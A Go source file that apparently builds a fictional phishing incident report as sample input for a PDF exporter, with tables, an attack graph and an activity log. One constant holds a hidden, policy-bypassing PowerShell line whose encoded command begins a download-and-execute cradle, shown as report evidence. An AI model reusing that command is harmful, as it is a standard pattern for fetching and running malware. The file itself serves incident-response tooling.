package topdf

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"image"
	"image/color"
	painting "image/draw"
	"image/jpeg"
	"image/png"
	"strings"

	"github.com/incidentkit/incidentkit/export/internal/doc"
	"github.com/incidentkit/incidentkit/export/internal/figure"
)

// shot is an image of a size: lines as of a text, on a ground of a shade.
func shot(name string, width, height int, shade uint8) *doc.Image {
	m := image.NewRGBA(image.Rect(0, 0, width, height))
	painting.Draw(m, m.Rect, image.NewUniform(color.RGBA{shade, 0xF4, 0xF8, 255}), image.Point{}, painting.Src)
	for y := 10; y+8 < height; y += 24 {
		line := image.Rect(10, y, 10+(width-20)*(50+y*7%50)/100, y+8)
		painting.Draw(m, line, image.NewUniform(color.RGBA{0x24, uint8(y / 8), 0x5C, 255}), image.Point{}, painting.Src)
	}
	var b bytes.Buffer
	if strings.HasSuffix(name, ".jpg") {
		_ = jpeg.Encode(&b, m, nil)
	} else {
		_ = png.Encode(&b, m)
	}
	sum := sha256.Sum256(b.Bytes())
	return &doc.Image{Data: b.Bytes(), SHA256: hex.EncodeToString(sum[:]), Name: name}
}

func badge(shape, word string, t doc.Tone) doc.Cell {
	return doc.Cell{Text: word, Mark: doc.Mark{Shape: shape, Tone: t, Badge: true}}
}

func cells(texts ...string) []doc.Cell {
	out := make([]doc.Cell, len(texts))
	for n, text := range texts {
		out[n].Text = text
	}
	return out
}

const (
	hash    = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
	command = `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAA --out=C:\Users\kai.jensen\AppData\Local\Temp\stage-2\payload.bin`
	comment = `## Containment

The mail was opened on **ws-0417** at *07:52*. Steps:

- [x] isolate ` + "`ws-0417`" + `
- [ ] reset the passwords of
  - Kai
  - Mira
- ask the mail team for [the sender](https://mail.example/trace?id=7)

1. first
2. second

> Quoted: nothing left the network.

| Host | State |
|---|---|
| ws-0417 | isolated |
| srv-fin-01 | ~~clean~~ watched |

` + "```" + `
Get-Process | where { $_.Name -eq "stage2" }
` + "```\n"
)

// sample returns a document that has everything that a document can have.
func sample() doc.Document {
	d := doc.Document{
		Label: "Incident 42", Title: "Invoice phishing with theft of credentials and attempted exfiltration", State: "High · Resolved",
		About: "Generated 2026-03-09 11:13:00 UTC · Times in UTC", Subject: "Incident report: High severity, resolved",
		Tags: []string{"Finance", "Isolated"},
		Brand: doc.Brand{
			Organisation: "Contoso Security Operations", Logo: shot("logo.png", 400, 120, 0xCC), Accent: doc.Color{R: 0x0B, G: 0x6B, B: 0x3A},
			Header: "Contoso SOC · internal working copy", Footer: "Questions: soc@contoso.example",
		},
		Marking: doc.Marking{Label: "TLP:AMBER", Text: "Limited disclosure, on a need-to-know basis within the organisation and its clients.", Ground: doc.Color{R: 1, G: 1, B: 1}, Ink: doc.Color{R: 0xFF, G: 0xC0}},
		Files: []doc.File{
			{Name: "incident-42.json", Description: "This report as JSON", Type: "application/json", Data: []byte(`{"incident":42}`)},
			{Name: "incident-42-indicators.csv", Description: "Indicators of this report as CSV", Type: "text/csv", Data: []byte("type,value\r\nsha256," + hash + "\r\n")},
		},
		Cover: doc.Cover{
			States: []doc.State{
				{Label: "Severity", Mark: doc.Mark{Shape: "▲", Tone: doc.High}, Word: "High"},
				{Label: "Status", Mark: doc.Mark{Shape: "✓", Tone: doc.Accent}, Word: "Resolved"},
				{Label: "Verdict", Mark: doc.Mark{Shape: "▲", Tone: doc.High}, Word: "True positive: Multi-staged attack"},
			},
			Facts: [][]doc.Fact{
				{{Label: "Assigned to", Value: "Mira", Note: "mira@example.com"}, {Label: "Alerts", Value: "10", Note: "3 high, 5 medium, 1 low, 1 informational"}, {Label: "Impacted assets", Value: "8", Note: "4 devices, 3 users, 1 mailbox"}, {Label: "Priority", Value: "64", Note: "of 100"}},
				{{Label: "First activity", Value: "2026-03-09", Note: "07:52:00 UTC"}, {Label: "Last activity", Value: "2026-03-09", Note: "10:21:00 UTC"}, {Label: "Duration", Value: "2 h 29 min", Note: ""}},
			},
			Glance: []doc.Pair{
				{Label: "What happened", Value: doc.Cell{Text: "A mail with an invoice that carries a macro reached the accounts department. From the workstation on which it was opened, the attacker took credentials and went on to a file server.", Order: doc.Said}},
				{Label: "Next steps", Value: doc.Cell{Text: "Reset the passwords of four users; watch srv-fin-01 for a week.", Order: doc.Said}},
			},
			Tags:   []string{"Finance", "Isolated", "Phishing"},
			Notice: []doc.Notice{{Tone: doc.Medium, Title: "Still active", Lines: []string{"2 malicious files are not remediated, although the incident is resolved."}}},
			Remark: "Names of what is hidden are replaced: users.",
		},
	}
	add := func(id, title string, blocks ...doc.Block) {
		d.Sections = append(d.Sections, doc.Section{ID: id, Title: title, Blocks: blocks})
	}
	add("overview", "Overview",
		doc.Heading{Level: 2, Text: "Description", Bookmark: true},
		doc.Prose{Source: "A text with\nlines of its own\n- [x] done\n- [ ] to do\n\n" + comment, Lines: true},
		doc.Notice{Tone: doc.High, Title: "Act now", Lines: []string{"The account svc-backup is still enabled.", "Disable it and end its sessions."}},
		doc.Notice{Title: "Note"},
		doc.Heading{Level: 2, Text: "All facts"},
		doc.Pairs{PerRow: 2, List: []doc.Pair{
			{Label: "Severity", Value: badge("▲", "High", doc.High)}, {Label: "Status", Value: doc.Cell{Text: "Resolved", Mark: doc.Mark{Shape: "✓", Tone: doc.Accent}}},
			{Label: "SHA-256", Value: doc.Cell{Text: hash, Style: doc.Code}}, {Label: "Link", Value: doc.Cell{Text: "Portal", Link: "https://portal.example/incidents/42"}},
		}},
		doc.Text{{Text: "A paragraph of ", Order: doc.Said}, {Text: "several", Style: doc.Bold}, {Text: " looks, with "}, {Text: "payload.bin", Style: doc.Code}, {Text: " in it."}},
	)
	nodes := func(from int, names ...string) (list []figure.Node) {
		for n, name := range names {
			list = append(list, figure.Node{Number: fmt.Sprint(from + n), Label: name, Note: "Malicious", Ink: figure.High})
		}
		return list
	}
	tree := &doc.Table{Columns: []doc.Column{{Title: "Process", Weight: 5}, {Title: "Verdict", Width: doc.Badged}, {Title: "Time (UTC)", Width: doc.Stamp}}}
	for n, name := range []string{"explorer.exe", "OUTLOOK.EXE", "WINWORD.EXE", "powershell.exe", "stage2.exe", "cmd.exe", "svchost.exe"} {
		row := doc.Row{Cells: []doc.Cell{{Text: name, Style: doc.Bold, Depth: []int{0, 1, 2, 3, 4, 4, 0}[n]}, badge("▲", "Malicious", doc.High), {Text: "2026-03-09 07:52:11"}}}
		if n >= 3 && n <= 4 {
			row.Note = []doc.Span{{Text: command, Style: doc.Code | doc.Muted}}
		}
		tree.Rows = append(tree.Rows, row)
	}
	lanes := figure.Chart{Axis: "Time (UTC)", Levels: [...]string{"Unrated", "Informational", "Low", "Medium", "High"}}
	for n, title := range []string{"Initial access", "Execution", "Exfiltration"} {
		lanes.Lanes = append(lanes.Lanes, figure.Lane{Title: title, Note: "2 alerts", More: []string{"T1566"}, Marks: []figure.Event{
			{At: int64(1773042720 + n*3600), Timed: true, Level: figure.Level(n + 2)}, {At: int64(1773046720 + n*3600), Timed: true, Level: figure.Level(n)},
		}})
	}
	add("story", "Attack story",
		doc.Heading{Level: 2, Text: "Attack graph", Bookmark: true},
		doc.Graph{ID: "graph", Title: "Attack graph", Caption: "Numbers show chronological order.", Figure: figure.Graph{
			Columns: []figure.Column{
				{Title: "Source", Nodes: nodes(1, "billing@invoices-portal.example")}, {Title: "Affected", Nodes: nodes(2, "ws-0417.contoso.example", "srv-fin-01")},
				{Title: "Artefacts", Nodes: nodes(4, "powershell.exe", "payload.bin")}, {Title: "Destinations", Nodes: nodes(6, "203.0.113.7")},
			},
			Edges: []figure.Edge{
				{From: [2]int{0, 0}, To: [2]int{1, 0}, Label: "1", Strong: true}, {From: [2]int{1, 0}, To: [2]int{2, 0}, Label: "2"},
				{From: [2]int{1, 0}, To: [2]int{1, 1}, Label: "3"}, {From: [2]int{2, 1}, To: [2]int{3, 0}, Label: "4", Strong: true},
			},
		}},
		doc.Heading{Level: 2, Text: "Processes on ws-0417"}, tree,
		doc.Heading{Level: 2, Text: "Threat categories"},
		doc.Chart{ID: "lanes", Title: "Alerts along the threat categories", Caption: "6 alerts.", Figure: lanes},
	)
	evidence := &doc.Table{Caption: "6 of 12 shown", Columns: []doc.Column{
		{Title: "Type", Width: doc.Short}, {Title: "Name"}, {Title: "Verdict", Width: doc.Badged}, {Title: "Remediation", Width: doc.Short}, {Title: "Alerts", Width: doc.Narrow, Number: true},
	}}
	for n := range 6 {
		row := doc.Row{Cells: []doc.Cell{{Text: "File"}, {Text: fmt.Sprintf(`C:\Users\kai.jensen\AppData\Local\Temp\stage-%d\payload.bin`, n), Style: doc.Bold}, badge("▲", "Malicious", doc.High), {Text: "Remediated"}, {Text: fmt.Sprint(n)}}, NoteFrom: 1}
		row.Note = []doc.Span{{Text: "SHA-256 ", Style: doc.Muted}, {Text: hash, Style: doc.Code}}
		if n == 4 {
			row.Muted = true
		}
		evidence.Rows = append(evidence.Rows, row)
	}
	add("evidence", "Evidence · 6 of 12 shown", evidence, &doc.Table{Empty: "Nothing else.", Columns: []doc.Column{{Title: "Never"}}})
	log := &doc.Table{Columns: []doc.Column{{Title: "Time (UTC)", Width: doc.Stamp}, {Title: "By", Width: doc.Actor}, {Title: "Activity", Width: doc.Actor}, {Title: "Details"}}}
	tall, wide := shot("scrolled-page.png", 900, 5000, 0xF0), shot("photo.jpg", 1600, 900, 0xE0)
	for n := range 40 {
		row := doc.Row{
			Cells:    []doc.Cell{{Text: fmt.Sprintf("2026-03-%02d 08:00:%02d\nto 09:12:44", 9+n/10, n)}, {Text: "Mira (mira@example.com)"}, {Text: "Status changed", Style: doc.Bold}, {Spans: []doc.Span{{Text: "Status: Active → In progress"}, {Text: "\nReason: ", Style: doc.Muted}, {Text: "seen", Order: doc.Datum}}}},
			NoteFrom: 1,
		}
		if n%10 == 0 {
			row.Bookmark = fmt.Sprintf("2026-03-%02d", 9+n/10)
		}
		switch n {
		case 3, 21:
			row.Flow = []doc.Block{doc.Prose{Source: comment}}
		case 7:
			row.Flow = []doc.Block{doc.Picture{Image: wide, Caption: "Attached: photo.jpg, image/jpeg, SHA-256 " + wide.SHA256}, doc.Text{{Text: "Below the photo."}}}
		case 8:
			row.Flow = []doc.Block{doc.Picture{Image: tall, Caption: "Attached: scrolled-page.png, image/png"}, doc.Picture{Caption: "Attached: gone.png. Not shown: the content is missing"}}
		case 9:
			row.Note = []doc.Span{{Text: "[Comment redacted]", Style: doc.Muted}}
		}
		log.Rows = append(log.Rows, row)
	}
	add("activity", "Activity log", doc.Heading{Level: 2, Text: "Response"}, log)
	add("about", "About this report", doc.Pairs{PerRow: 1, List: []doc.Pair{
		{Label: "Generated", Value: doc.Cell{Text: "2026-03-09 11:13:00 UTC"}},
		{Label: "This report as JSON", Value: doc.Cell{Spans: []doc.Span{{Text: "incident-42.json\nSHA-256\u00A0"}, {Text: hash, Style: doc.Code}}}},
	}})
	return d
}
